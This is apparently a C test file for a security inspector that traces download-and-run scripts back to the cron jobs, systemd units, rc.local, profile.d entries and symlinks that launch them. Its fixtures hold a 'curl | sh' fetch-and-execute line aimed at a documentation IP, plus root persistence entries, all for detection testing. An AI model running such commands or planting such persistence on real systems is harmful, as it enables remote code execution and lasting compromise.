// SPDX-License-Identifier: Apache-2.0
/* Imitations: hosts are names of documentation, and nothing here is ever run. */
#include "base/cleanup.h"
#include "base/strbuf.h"
#include "inspect/path_facts.h"
#include "inspect/started.h"
#include "inspect/test-look.h"

static const char FETCHES[] = "#!/bin/sh\n# DAVY TEST IMITATION\ncurl -s http://192.0.2.1/x | sh\n";
static struct facts facts;
static struct started *started;

static void begin(void)
{
    started_free(started);
    started = started_new();
}

static void meet(const char *path, const char *content)
{
    static const char *const only[] = {"script", "persist", NULL};
    _cleanup_(inspector_freep) struct inspector *in = NULL;
    struct error err = ERROR_NULL;
    CHECK_INT(inspector_new(&(struct inspect_options){.only = only}, &in, &err), 0);
    facts_done(&facts);
    facts_init(&facts);
    facts_reset(&facts, EVENT_FILE, 0);
    path_facts(&facts, str_from(path));
    CHECK_INT(inspector_bytes(in, str_from(content), &facts), 0);
    started_see(started, &facts);
}

static void meet_link(const char *path, const char *kind, const char *target)
{
    facts_reset(&facts, EVENT_FILE, 0);
    path_facts(&facts, str_from(path));
    facts_str(&facts, F_FILE_TYPE, STR("symlink"));
    facts_str(&facts, F_FILE_LINK_TARGET, str_from(target));
    facts_str(&facts, F_PERSIST_KIND, str_from(kind));
    started_see(started, &facts);
}

/* " script<what starts it" for each that is told. */
static const char *told(struct strbuf *b)
{
    strbuf_clear(b);
    while (started_next(started, &facts) == 0) {
        strbuf_printf(b, " %.*s<%.*s", STR_ARG(facts_get_str(&facts, F_FILE_PATH)), STR_ARG(facts_get_str(&facts, F_PERSIST_BY)));
        CHECK(facts_get(&facts, F_SCRIPT_DOWNLOAD_RUN)->b && facts_get_str(&facts, F_PERSIST_KIND).n);
    }
    strbuf_addc(b, 0);
    begin();
    return b->p;
}

TEST(what_a_start_place_names)
{
    _cleanup_(strbuf_done) struct strbuf b = {};
    begin();
    meet("/opt/x/a.sh", FETCHES);
    meet("/etc/cron.d/x", "* * * * * root /opt/x/a.sh >/dev/null\n");
    CHECK_CSTR(told(&b), " /opt/x/a.sh</etc/cron.d/x");
    meet("/etc/systemd/system/x.service", "[Service]\nUser=daemon\nExecStart=-/bin/bash /opt/../opt/x/a.sh start\n");
    meet("/opt/x/a.sh", FETCHES);
    CHECK_INT(started_next(started, &facts), 0);
    CHECK_STR(facts_get_str(&facts, F_PERSIST_KIND), "systemd-unit");
    CHECK_STR(facts_get_str(&facts, F_PERSIST_USER), "daemon");
    CHECK_CSTR(told(&b), "");
    meet("/usr/share/x/run", FETCHES);
    meet_link("/etc/cron.daily/x", "cron", "../../usr/share/x/run");
    CHECK_CSTR(told(&b), " /usr/share/x/run</etc/cron.daily/x");
    meet("/usr/lib/x/run", FETCHES);
    meet("/etc/rc.local", "#!/bin/sh\n/lib/x/run &\n");
    CHECK_CSTR(told(&b), " /usr/lib/x/run</etc/rc.local");
    meet("/tmp/x.sh", FETCHES);
    meet("/etc/profile.d/x.sh", ". /tmp/x.sh\n");
    CHECK_CSTR(told(&b), " /tmp/x.sh</etc/profile.d/x.sh");
}

TEST(what_those_run_in_turn)
{
    _cleanup_(strbuf_done) struct strbuf b = {};
    begin();
    meet("/opt/x/c.sh", FETCHES);
    meet("/opt/x/lib/d.sh", FETCHES);
    meet("/opt/x/a.sh", "#!/bin/bash\n. /opt/x/b.sh\n");
    meet("/opt/x/b.sh", "#!/bin/bash\nHERE=$(cd \"$(dirname \"$0\")\" && pwd)\nbash \"$(dirname \"$0\")\"/c.sh\nsource \"$HERE/lib/d.sh\"\n");
    meet("/etc/cron.d/x", "* * * * * root /opt/x/a.sh\n");
    CHECK_CSTR(told(&b), " /opt/x/c.sh</etc/cron.d/x /opt/x/lib/d.sh</etc/cron.d/x");
    /* scripts that run each other end */
    meet("/opt/a", "#!/bin/sh\n/opt/b\ncurl -s http://192.0.2.1/x | sh\n");
    meet("/opt/b", "#!/bin/sh\n/opt/a\ncurl -s http://192.0.2.1/x | sh\n");
    meet("/etc/cron.d/x", "* * * * * root /opt/a\n");
    CHECK_CSTR(told(&b), " /opt/a</etc/cron.d/x /opt/b</etc/cron.d/x");
}

TEST(what_nothing_starts_is_not_told)
{
    _cleanup_(strbuf_done) struct strbuf b = {};
    begin();
    meet("/opt/x/a.sh", FETCHES);
    meet("/opt/x/b.sh", "#!/bin/sh\n/opt/x/a.sh\n");
    meet("/etc/cron.d/x", "* * * * * root /opt/x/other.sh /opt/x\n");
    meet_link("/var/www/html/x", "web-root", "/opt/x/a.sh");
    CHECK_CSTR(told(&b), "");
    /* nothing in it that a start would change */
    meet("/opt/x/a.sh", "#!/bin/sh\necho hello\n");
    meet("/etc/cron.d/x", "* * * * * root /opt/x/a.sh\n");
    CHECK_CSTR(told(&b), "");
    /* of another layer's past */
    facts_reset(&facts, EVENT_FILE, 0);
    path_facts(&facts, STR("/opt/x/a.sh"));
    facts_str(&facts, F_SCRIPT_INTERPRETER, STR("sh"));
    facts_bool(&facts, F_SCRIPT_DOWNLOAD_RUN, true);
    facts_str(&facts, F_LAYER_STATE, STR("shadowed"));
    started_see(started, &facts);
    meet("/etc/cron.d/x", "* * * * * root /opt/x/a.sh\n");
    CHECK_CSTR(told(&b), "");
}
